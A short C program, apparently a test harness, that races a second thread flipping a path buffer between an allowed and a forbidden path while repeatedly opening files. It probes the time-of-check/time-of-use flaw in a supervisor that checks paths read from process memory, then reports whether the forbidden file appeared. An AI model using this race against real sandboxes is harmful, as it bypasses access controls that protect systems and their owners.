/* grant_race PATH_A PATH_B N: opens a file for writing N times through one
 * path buffer while a second thread keeps rewriting the buffer between
 * PATH_A and PATH_B (same length), byte by byte: the TOCTOU race against a
 * supervisor that decides on the path it read from this process's memory.
 * Prints how many opens succeeded and whether PATH_B exists afterwards. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "path_flip.h"

int main(int argc, char **argv)
{
	if (argc != 4 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof(flip_path)) {
		fprintf(stderr, "usage: grant_race PATH_A PATH_B N (paths of one length)\n");
		return 2;
	}
	const char *a = argv[1], *b = argv[2];
	int n = atoi(argv[3]), opened = 0;
	if (flip_start(a, b) != 0)
		return 1;
	for (int i = 0; i < n; i++) {
		int fd = open(flip_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd >= 0) {
			opened++;
			close(fd);
		}
	}
	flip_end();
	printf("a %s, b %s\n", access(a, F_OK) == 0 ? "exists" : "absent", access(b, F_OK) == 0 ? "exists" : "absent");
	fprintf(stderr, "%d of %d opens succeeded\n", opened, n);
	return 0;
}
